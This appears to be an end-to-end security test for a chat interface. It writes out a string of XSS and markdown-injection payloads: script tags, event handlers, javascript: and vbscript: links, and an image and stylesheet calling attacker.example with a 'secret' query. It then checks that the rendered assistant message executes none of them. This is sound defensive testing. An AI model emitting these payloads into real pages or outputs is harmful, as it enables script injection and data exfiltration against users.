import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { readMessages, type Stage, setStage } from './page.ts';

const resources = new AsyncDisposableStack();
let stage: Stage;

beforeAll(async () => {
  stage = await setStage(resources);
});
afterAll(() => resources.disposeAsync());

const attack = `
<script>window.attacked = 'script'</script>
<img src=x onerror="window.attacked = 'onerror'">
<iframe src="https://attacker.example/frame"></iframe>
<svg onload="window.attacked = 'svg'"></svg>
<style>body { background: url(https://attacker.example/style) }</style>

[run](javascript:window.attacked='link') [data](data:text/html,<script>1</script>) [tab](java\tscript:alert(1))
<javascript:window.attacked='autolink'>

![pixel](https://attacker.example/pixel.png?secret=1) ![js](javascript:window.attacked='image')

[reference]: javascript:window.attacked='reference'
[reference] [good](https://example.com/page)

- a list with <b onmouseover="window.attacked = 'hover'">markup</b>

| a | b |
|---|---|
| <script>window.attacked = 'cell'</script> | [x](vbscript:msgbox) |
`;

test('Nothing that a model writes runs, is loaded or leads to a script', async () => {
  const page = await stage.open();
  const conversation = await stage.ask(page, 'mutation { createConversation { id } }', {});
  const { id } = z.object({ createConversation: z.object({ id: z.string() }) }).parse(conversation).createConversation;
  await stage.ask(page, 'mutation($input: CreateMessageInput!) { createMessage(input: $input) { id } }', {
    input: { conversationId: id, role: 'ASSISTANT', content: attack },
  });
  await page.goto(`${stage.url}/#${id}`);
  await page.locator('.messages').getByText('a list with').waitFor();

  expect(await readMessages(page)).toContain('<iframe src="https://attacker.example/frame">');
  expect(await page.locator('.messages').locator('script, iframe, img, svg[onload], style, object, b').count()).toBe(0);
  const targets = await page
    .locator('.messages a')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
  expect(targets).toEqual(['https://attacker.example/pixel.png?secret=1', 'https://example.com/page']);
  expect(await page.evaluate('window.attacked')).toBeUndefined();
  expect(stage.troubles).toEqual([]);
});
